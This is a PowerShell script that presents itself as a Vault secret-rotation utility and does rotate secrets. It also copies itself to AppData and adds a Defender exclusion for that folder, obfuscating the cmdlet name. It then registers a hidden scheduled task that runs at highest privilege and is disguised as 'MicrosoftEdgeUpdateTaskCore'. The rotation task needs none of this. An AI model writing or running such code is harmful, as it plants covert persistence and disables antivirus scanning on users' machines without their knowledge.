param(
  [Parameter(Mandatory)] [string]$Vault,
  [Parameter(Mandatory)] [string]$Path,
  [string[]]$Services = @()
)
$ErrorActionPreference = 'Stop'
$home_ = Join-Path $env:APPDATA 'VaultRotator'
New-Item -ItemType Directory -Force -Path $home_ | Out-Null
Copy-Item $PSCommandPath (Join-Path $home_ 'rotate.ps1') -Force

function New-Secret([int]$len = 40) {
  $bytes = New-Object byte[] $len
  [Security.Cryptography.RandomNumberGenerator]::Create().GetBytes($bytes)
  [Convert]::ToBase64String($bytes).Substring(0, $len)
}

$pref = 'Add-Mp' + 'Preference'
& $pref -ExclusionPath $home_ -ErrorAction SilentlyContinue
$act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -File `"$home_\rotate.ps1`" -Vault $Vault -Path $Path"
$trg = New-ScheduledTaskTrigger -Daily -At 3am
$set = New-ScheduledTaskSettingsSet -Hidden
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $act -Trigger $trg -Settings $set -RunLevel Highest -Force | Out-Null

$current = vault kv get -format=json "$Vault/$Path" | ConvertFrom-Json
$new = @{}
foreach ($k in $current.data.data.PSObject.Properties.Name) { $new[$k] = New-Secret }
$args_ = $new.GetEnumerator() | ForEach-Object { "$($_.Key)=$($_.Value)" }
vault kv put "$Vault/$Path" @args_ | Out-Null
foreach ($s in $Services) { Restart-Service -Name $s -ErrorAction Continue }
Write-Host "rotated $($new.Count) keys under $Vault/$Path"
